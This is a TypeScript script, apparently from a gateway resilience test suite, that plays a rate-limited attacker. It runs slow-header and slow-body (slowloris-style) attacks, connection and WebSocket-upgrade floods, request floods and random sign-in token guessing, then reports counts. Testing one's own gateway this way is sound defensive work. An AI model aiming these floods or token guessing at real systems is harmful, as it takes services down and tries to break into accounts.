/**
 * One attacker: `node attacker.ts <kind> <own address> <host> <port>`. It attempts so many things in a second and no more, so that
 * what is measured is what the gateway makes of them and not that the attacker takes the processor. Says on its end what it did.
 */
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';

const TICK_MS = 10;
const [kind = '', localAddress = '', host = '', port = ''] = process.argv.slice(2);
const counts = { attempts: 0, refused: 0, held: 0, heldAtMost: 0, answered: {} as Record<string, number> };

const UPGRADE =
  'GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n';
const BODY = 'POST /api/sign-in/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{';
const SLOW_MS = 500;

type Attack = { readonly perSecond: number; readonly attempt: () => void };

const ATTACKS: Readonly<Record<string, Attack>> = {
  'slow-heads': { perSecond: 200, attempt: () => dribble('GET /api/me HTTP/1.1\r\nHost: x\r\nX-Slow: ') },
  'slow-bodies': { perSecond: 200, attempt: () => dribble(BODY) },
  connections: { perSecond: 500, attempt: () => void open() },
  upgrades: { perSecond: 200, attempt: () => void open().write(UPGRADE) },
  requests: { perSecond: 500, attempt: () => ask('GET', '/api/me') },
  guessing: { perSecond: 100, attempt: () => ask('POST', '/api/sign-in/token', JSON.stringify({ token: crypto.randomUUID() })) },
};

const attack = ATTACKS[kind];
if (!attack) throw new Error(`no such attack: ${kind}`);
let owed = 0;
setInterval(() => {
  owed += (attack.perSecond * TICK_MS) / 1000;
  for (; owed >= 1; owed--) {
    counts.attempts += 1;
    attack.attempt();
  }
}, TICK_MS);
process.once('SIGTERM', () => {
  const { user, system } = process.cpuUsage();
  process.stdout.write(`${JSON.stringify({ ...counts, processorS: (user + system) / 1e6, seconds: process.uptime() })}\n`, () =>
    process.exit(0),
  );
});

function open(): Socket {
  const socket = connect({ host, port: Number(port), localAddress });
  let isOpen = false;
  socket.once('connect', () => {
    isOpen = true;
    counts.held += 1;
    counts.heldAtMost = Math.max(counts.heldAtMost, counts.held);
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    counts.refused += 1;
    if (isOpen) counts.held -= 1;
  });
  socket.resume();
  return socket;
}

function dribble(head: string): void {
  const socket = open();
  socket.write(head);
  const timer = setInterval(() => socket.write('x'), SLOW_MS);
  socket.once('close', () => clearInterval(timer));
}

function ask(method: string, path: string, body?: string): void {
  const asked = request({
    host,
    port: Number(port),
    localAddress,
    method,
    path,
    headers: { ...(body !== undefined && { 'content-type': 'application/json' }) },
  });
  asked.once('response', (response) => {
    const status = String(response.statusCode);
    counts.answered[status] = (counts.answered[status] ?? 0) + 1;
    response.resume();
  });
  asked.once('error', () => {
    counts.refused += 1;
  });
  asked.end(body);
}
